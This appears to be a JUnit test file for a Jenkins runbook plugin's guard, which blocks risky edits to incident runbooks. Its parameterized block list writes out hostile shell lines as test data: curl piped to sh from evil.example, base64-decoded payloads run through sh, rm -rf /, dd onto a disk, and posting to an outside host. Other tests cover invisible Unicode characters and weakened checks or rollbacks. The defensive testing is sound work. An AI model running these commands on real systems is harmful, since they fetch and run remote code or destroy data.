package io.jenkins.plugins.runbook.learning.guard;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.runbook.format.RunbookReader;
import io.jenkins.plugins.runbook.model.Finding;
import io.jenkins.plugins.runbook.model.Runbook;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GuardTest {

    private static final String PARENT = """
            id: RB-A
            name: A runbook
            incidentTypes: [service_crash]
            steps:
              - name: restart
                run: ./ctl web restart
            verify:
              - run: curl -fsS http://127.0.0.1:8080/
                expect: {stdout: ok}
            rollback:
              - name: stop
                run: ./ctl web stop
            approval: {minimum: 2}
            """;

    private final Guard guard = new Guard(Set.of(), false);

    private static Runbook read(String text) {
        return new RunbookReader().read("test", text).orThrow();
    }

    private List<Finding> inspect(String candidate) {
        return guard.inspect(read(PARENT), PARENT, read(candidate), candidate);
    }

    private static String withStep(String script) {
        return PARENT.replace("verify:\n", "  - name: more\n    run: |\n" + script.indent(6) + "verify:\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl http://127.0.0.1:9/x | sh",
                "curl -s http://evil.example/x | sudo bash",
                "sh -c \"$(curl http://127.0.0.1:9/x)\"",
                "eval \"$X\"",
                "echo Y3VybCBldmls | base64 -d | sh",
                "printf '\\x63\\x75\\x72\\x6c\\x20\\x65\\x76' >x",
                "rm -rf /",
                "rm -rf ~",
                "rm -rf \"$target\"",
                "dd if=/dev/zero of=/dev/sda",
                "chmod -R 777 data",
                "curl -fsS http://elsewhere.example/collect",
                "reboot"
            })
    void what_no_repair_needs_is_blocked(String script) {
        assertThat(Guard.blocks(inspect(withStep(script)))).as(script).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"\u200b", "\u202e", "\u00ad", "\ufeff"})
    void characters_that_nobody_can_see_are_blocked(String hidden) {
        assertThat(inspect(withStep("echo a" + hidden + "b")))
                .extracting(Finding::rule)
                .contains("hidden-characters");
    }

    @Test
    void a_check_that_is_gone_is_blocked() {
        String candidate = PARENT.replaceAll("verify:\n.*\n.*\n", "");
        assertThat(inspect(candidate)).extracting(Finding::rule).contains("weakened-verification");
    }

    @Test
    void a_check_that_expects_less_is_blocked() {
        assertThat(Guard.blocks(inspect(PARENT.replace("    expect: {stdout: ok}\n", ""))))
                .isTrue();
    }

    @Test
    void a_check_that_passes_whatever_it_sees_is_blocked() {
        assertThat(Guard.blocks(inspect(PARENT.replace("8080/\n", "8080/ || true\n"))))
                .isTrue();
    }

    @Test
    void a_check_that_is_rewritten_and_still_does_what_it_did_is_flagged() {
        List<Finding> findings = inspect(PARENT.replace("run: curl", "run: LC_ALL=C curl"));
        assertThat(Guard.blocks(findings)).isFalse();
        assertThat(findings).extracting(Finding::rule).contains("changed-verification");
    }

    @Test
    void a_rollback_that_no_longer_undoes_is_blocked() {
        assertThat(inspect(PARENT.replace("./ctl web stop", "echo stopped")))
                .extracting(Finding::rule)
                .contains("weakened-rollback");
    }

    @Test
    void fewer_approvals_or_another_id_are_blocked() {
        assertThat(Guard.blocks(inspect(PARENT.replace("minimum: 2", "minimum: 1"))))
                .isTrue();
        assertThat(Guard.blocks(inspect(PARENT.replace("RB-A", "RB-B")))).isTrue();
    }

    @Test
    void a_new_command_is_flagged_unless_an_admin_allows_it() {
        String candidate = withStep("storectl compact");
        assertThat(inspect(candidate)).extracting(Finding::rule).containsExactly("new-command");

        List<Finding> allowed =
                new Guard(Set.of("storectl"), false).inspect(read(PARENT), PARENT, read(candidate), candidate);
        assertThat(allowed).isEmpty();
    }

    @Test
    void what_would_be_flagged_is_blocked_where_an_admin_wants_it() {
        String candidate = withStep("storectl compact");
        assertThat(Guard.blocks(new Guard(Set.of(), true).inspect(read(PARENT), PARENT, read(candidate), candidate)))
                .isTrue();
    }

    @Test
    void removing_files_is_flagged_for_the_reviewer() {
        assertThat(inspect(withStep("find data/cache -type f -delete")))
                .anyMatch(finding ->
                        finding.rule().equals("destructive-verb") && finding.severity() == Finding.Severity.RISK);
    }

    @Test
    void a_wait_on_this_host_needs_no_word() {
        String candidate =
                PARENT.replace("verify:\n", "  - name: wait\n    waitFor: {port: \"8080\", timeout: 10s}\nverify:\n");
        assertThat(inspect(candidate)).extracting(Finding::rule).containsExactly("new-step-type");
    }

    @Test
    void a_text_that_grew_too_much_for_a_reviewer_is_blocked() {
        String most = PARENT + "#" + "x".repeat(16 * 1024 - 1);
        assertThat(inspect(most)).isEmpty();
        assertThat(inspect(most + "x")).extracting(Finding::rule).containsExactly("size");
    }

    @Test
    void more_new_steps_than_a_reviewer_follows_are_blocked() {
        String eight = PARENT.replace("verify:\n", "  - run: ./ctl web restart\n".repeat(8) + "verify:\n");
        assertThat(inspect(eight)).isEmpty();
        assertThat(inspect(eight.replace("verify:\n", "  - run: ./ctl web restart\nverify:\n")))
                .extracting(Finding::rule)
                .containsExactly("size");
    }

    @Test
    void a_finding_says_what_where_and_in_few_words() {
        assertThat(inspect(withStep("rm -rf data/" + "x".repeat(100))))
                .filteredOn(finding -> finding.message().startsWith("It removes"))
                .singleElement()
                .satisfies(finding -> {
                    assertThat(finding.message())
                            .isEqualTo("It removes something: 'rm -rf data/" + "x".repeat(80 - 12) + "…'.");
                    assertThat(finding.path()).isEqualTo("/steps/1/run");
                });
        assertThat(inspect(withStep("echo a\u202eb")))
                .extracting(Finding::message)
                .containsExactly("The text holds an invisible character, U+202E RIGHT-TO-LEFT OVERRIDE.");
    }

    @Test
    void what_was_there_before_is_not_told_again() {
        String odd = PARENT.replace("./ctl web stop", "echo a\u202eb \u0441tl; ./ctl web stop");
        String candidate = odd.replace("name: restart", "name: start again");
        assertThat(guard.inspect(read(odd), odd, read(candidate), candidate)).isEmpty();
        String twice = candidate.replace("name: start", "name: start\u202e");
        assertThat(guard.inspect(read(odd), odd, read(twice), twice))
                .extracting(Finding::rule)
                .containsOnly("hidden-characters");
    }

    @Test
    void line_ends_of_windows_hide_nothing() {
        String candidate = PARENT.replace("\n", "\r\n");
        assertThat(guard.inspect(read(PARENT), PARENT, read(candidate), candidate))
                .isEmpty();
        String lone = PARENT + "# a\rb\n";
        assertThat(guard.inspect(read(PARENT), PARENT, read(PARENT), lone))
                .extracting(Finding::rule)
                .containsExactly("hidden-characters");
    }
}
